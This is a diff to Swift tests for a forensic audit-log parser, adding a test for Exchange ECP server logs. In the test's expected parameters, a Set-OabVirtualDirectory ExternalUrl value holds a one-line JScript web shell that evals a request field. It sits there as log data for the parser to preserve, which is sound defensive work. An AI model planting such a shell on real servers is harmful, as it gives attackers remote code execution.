@@ -137,7 +137,8 @@ struct ReaderTests {
         let inputs = try InputFile.expand([Fixtures.directory.path])
         #expect(
             inputs.map { URL(fileURLWithPath: $0.path).lastPathComponent } == [
-                "admin-audit.csv", "bom-crlf.jsonl", "entra-signins.json", "entra-signins.jsonl", "envelopes.json",
+                "admin-audit.csv", "bom-crlf.jsonl", "ecp-server.log", "entra-signins.json", "entra-signins.jsonl",
+                "envelopes.json",
                 "httpproxy.log", "iis.log",
                 "mailbox-audit-ambiguous.csv", "mailbox-audit-dmy.csv", "malformed.jsonl", "purview.csv",
                 "records.jsonl.gz", "sentinel-officeactivity.csv", "sentinel-officeactivity.json",
@@ -237,5 +238,33 @@ struct SharedSampleTests {
         #expect(lines.format == .entraSignIns)
         #expect(lines.events.map(\.recordID) == events.map(\.recordID))
         #expect(lines.events.map(\.parameters) == events.map(\.parameters))
+    }
+
+    @Test("the ECP Server log: cmdlets become admin events with their parameters; script in a value survives whole")
+    func ecpServerLog() throws {
+        let read = try Fixtures.read(Fixtures.path("ecp-server.log"))
+        #expect(read.format == .ecpServer)
+        #expect(read.skipped == ["ECP requests without a cmdlet"])
+        #expect(
+            read.quarantined.map { "\($0.origin.line): \($0.reason)" } == ["10: TimeStamp is missing or not ISO 8601"])
+        #expect(
+            read.events.map(\.operation) == [
+                "Set-OabVirtualDirectory", "Set-OabVirtualDirectory", "Remove-OabVirtualDirectory",
+            ])
+        let shell = try #require(read.events.first)
+        #expect(shell.occurredAt.description == "2021-03-02T02:04:15.412000Z")
+        #expect(shell.originServer == "exch01")
+        #expect(shell.workload == "ECP")
+        #expect(
+            shell.parameters == [
+                Parameter(
+                    name: "ExternalUrl",
+                    value:
+                        #"http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["unsafe"],"unsafe");}</script>"#
+                ),
+                Parameter(name: "Identity", value: "b6d0d4c3-7f2a-4c1e-9a8b-0c1d2e3f4a5b"),
+            ])
+        #expect(read.events[1].parameters.first == Parameter(name: "ExternalUrl", value: "$null"))
+        #expect(read.events[2].resultStatus == "Failed: System.Management.Automation.RemoteException")
     }
 }
